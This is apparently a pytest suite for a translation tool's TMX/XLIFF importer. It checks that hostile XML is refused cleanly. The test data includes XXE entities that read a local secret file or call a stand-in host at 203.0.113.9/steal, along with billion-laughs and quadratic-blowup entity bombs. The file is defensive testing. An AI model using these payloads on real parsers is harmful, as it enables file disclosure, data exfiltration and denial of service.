"""Untrusted TMX and XLIFF: entities (XXE, billion laughs), broken and foreign files.

Each case is fed to `import_file` for both XML formats; each must end in a clear InputError
(or, where the file is harmless, a correct import) — never a traceback, a hang, a read of a
local file, a network connection (the suite's network guard fails the test on any), or a
half-stored report.
"""

from pathlib import Path

import pytest

from workbench.errors import InputError
from workbench.formats.api import import_file
from workbench.store import reports
from workbench.store.db import check

SECRET = "TOP-SECRET-MARKER-7f3a"
FORMATS = {"tmx": ".tmx", "xliff": ".xlf"}


def _document(fmt: str, doctype: str, text: str) -> str:
    """A minimal valid file of `fmt` with `doctype` before the root and `text` as a source."""
    if fmt == "tmx":
        return (
            f'<?xml version="1.0"?>\n{doctype}\n<tmx version="1.4"><header srclang="en"/><body>'
            f'<tu><tuv xml:lang="en"><seg>{text}</seg></tuv><tuv xml:lang="ar"><seg>نص</seg></tuv>'
            "</tu></body></tmx>"
        )
    return (
        f'<?xml version="1.0"?>\n{doctype}\n<xliff xmlns="urn:oasis:names:tc:xliff:document:2.0" '
        'version="2.0" srcLang="en" trgLang="ar"><file id="f"><unit id="u"><segment>'
        f"<source>{text}</source><target>نص</target></segment></unit></file></xliff>"
    )


def _root(fmt: str) -> str:
    return "tmx" if fmt == "tmx" else "xliff"


def _laughs(fmt: str) -> str:
    levels = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)
    ]
    return f"<!DOCTYPE {_root(fmt)} [{''.join(levels)}]>"


@pytest.fixture
def secret_file(tmp_path: Path) -> Path:
    path = tmp_path / "secret.txt"
    path.write_text(SECRET, encoding="utf-8")
    return path


def _import(db, tmp_path: Path, fmt: str, content: str | bytes):
    path = tmp_path / f"hostile{FORMATS[fmt]}"
    if isinstance(content, str):
        content = content.encode("utf-8")
    path.write_bytes(content)
    return import_file(path, "hostile", user="bob", db=db)


def _refused(db, tmp_path, fmt, content, message):
    with pytest.raises(InputError, match=message) as caught:
        _import(db, tmp_path, fmt, content)
    assert str(tmp_path) in str(caught.value)  # the message names the file
    assert reports.list_reports(db) == [] and check(db) == []
    return str(caught.value)


@pytest.mark.parametrize("fmt", FORMATS)
def test_xxe_file_entity_is_refused(db, tmp_path, fmt, secret_file):
    doctype = f'<!DOCTYPE {_root(fmt)} [<!ENTITY xxe SYSTEM "file://{secret_file}">]>'
    message = _refused(db, tmp_path, fmt, _document(fmt, doctype, "&xxe;"), "declares XML entities")
    assert SECRET not in message


@pytest.mark.parametrize("fmt", FORMATS)
def test_xxe_parameter_entity_is_refused(db, tmp_path, fmt, secret_file):
    doctype = f'<!DOCTYPE {_root(fmt)} [<!ENTITY % p SYSTEM "file://{secret_file}"> %p;]>'
    _refused(db, tmp_path, fmt, _document(fmt, doctype, "x"), "declares XML entities")


@pytest.mark.parametrize("fmt", FORMATS)
def test_xxe_network_entity_is_refused_without_connecting(db, tmp_path, fmt):
    doctype = f'<!DOCTYPE {_root(fmt)} [<!ENTITY xxe SYSTEM "http://203.0.113.9/steal">]>'
    _refused(db, tmp_path, fmt, _document(fmt, doctype, "&xxe;"), "declares XML entities")


@pytest.mark.timeout(20)
@pytest.mark.parametrize("fmt", FORMATS)
def test_billion_laughs_is_refused(db, tmp_path, fmt):
    _refused(db, tmp_path, fmt, _document(fmt, _laughs(fmt), "&lol9;"), "declares XML entities")


@pytest.mark.timeout(20)
@pytest.mark.parametrize("fmt", FORMATS)
def test_billion_laughs_in_an_attribute_is_refused(db, tmp_path, fmt):
    content = _document(fmt, _laughs(fmt), "x").replace("<body>", '<body x="&lol9;">')
    content = content.replace('<file id="f">', '<file id="f" x="&lol9;">')
    _refused(db, tmp_path, fmt, content, "declares XML entities")


@pytest.mark.timeout(20)
@pytest.mark.parametrize("fmt", FORMATS)
def test_quadratic_blowup_is_refused(db, tmp_path, fmt):
    doctype = f'<!DOCTYPE {_root(fmt)} [<!ENTITY big "{"x" * 50_000}">]>'
    _refused(db, tmp_path, fmt, _document(fmt, doctype, "&big;" * 20_000), "declares XML entities")


@pytest.mark.parametrize("fmt", FORMATS)
def test_undeclared_entity_is_not_well_formed(db, tmp_path, fmt):
    _refused(
        db, tmp_path, fmt, _document(fmt, "", "a&nbsp;b"), r"not well-formed XML \(undefined entity"
    )


@pytest.mark.parametrize("fmt", FORMATS)
def test_a_file_cut_short_is_not_well_formed(db, tmp_path, fmt):
    content = _document(fmt, "", "complete text")
    _refused(
        db,
        tmp_path,
        fmt,
        content[: len(content) // 2],
        "not well-formed XML .* it may be cut short",
    )


@pytest.mark.parametrize("fmt", FORMATS)
def test_the_wrong_root_element_is_named(db, tmp_path, fmt):
    _refused(db, tmp_path, fmt, "<html><body>hi</body></html>", "its root element is <html>")


@pytest.mark.parametrize("fmt", FORMATS)
def test_an_empty_file_is_refused(db, tmp_path, fmt):
    _refused(db, tmp_path, fmt, b"", "is empty")


@pytest.mark.parametrize("fmt", FORMATS)
def test_a_whitespace_file_is_refused(db, tmp_path, fmt):
    _refused(db, tmp_path, fmt, b" \n\t\n", "is empty")


@pytest.mark.parametrize("fmt", FORMATS)
def test_a_binary_file_is_refused(db, tmp_path, fmt):
    png = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256))
    _refused(db, tmp_path, fmt, png, "not well-formed XML")


@pytest.mark.parametrize("fmt", FORMATS)
def test_a_nul_byte_is_refused(db, tmp_path, fmt):
    _refused(db, tmp_path, fmt, _document(fmt, "", "a\x00b"), "not well-formed XML")


@pytest.mark.parametrize("fmt", FORMATS)
def test_a_named_dtd_is_not_fetched_and_the_file_imports(db, tmp_path, fmt):
    doctype = f'<!DOCTYPE {_root(fmt)} SYSTEM "http://203.0.113.9/{_root(fmt)}.dtd">'
    result = _import(db, tmp_path, fmt, _document(fmt, doctype, "Fine."))
    assert [d.lang for d in result.documents] == ["en", "ar"]


@pytest.mark.timeout(60)
@pytest.mark.parametrize("fmt", FORMATS)
def test_deeply_nested_markup_is_read_without_exhausting_the_stack(db, tmp_path, fmt):
    tag = "hi" if fmt == "tmx" else "mrk"  # markup: its text is text (codes: test_xliff)
    depth = 50_000
    content = _document(fmt, "", f"<{tag}>" * depth + "deep" + f"</{tag}>" * depth)
    result = _import(db, tmp_path, fmt, content)
    assert reports.segments(db, result.documents[0].id)[0].text == "deep"


@pytest.mark.parametrize("fmt", FORMATS)
def test_utf16_with_a_bom_is_read(db, tmp_path, fmt):
    content = _document(fmt, "", "Wide.").replace(
        '<?xml version="1.0"?>', '<?xml version="1.0" encoding="UTF-16"?>'
    )
    result = _import(db, tmp_path, fmt, content.encode("utf-16"))
    assert reports.segments(db, result.documents[0].id)[0].text == "Wide."


@pytest.mark.parametrize("fmt", FORMATS)
def test_hostile_xml_through_the_cli_is_one_line(cli, tmp_path, fmt, secret_file):
    doctype = f'<!DOCTYPE {_root(fmt)} [<!ENTITY xxe SYSTEM "file://{secret_file}">]>'
    path = tmp_path / f"x{FORMATS[fmt]}"
    path.write_text(_document(fmt, doctype, "&xxe;"), encoding="utf-8")
    result = cli("import", str(path), "--report", "hostile")
    assert result.code == 2
    assert result.err.startswith("error: ") and result.err.count("\n") == 1
    assert "Traceback" not in result.err and SECRET not in result.err + result.out
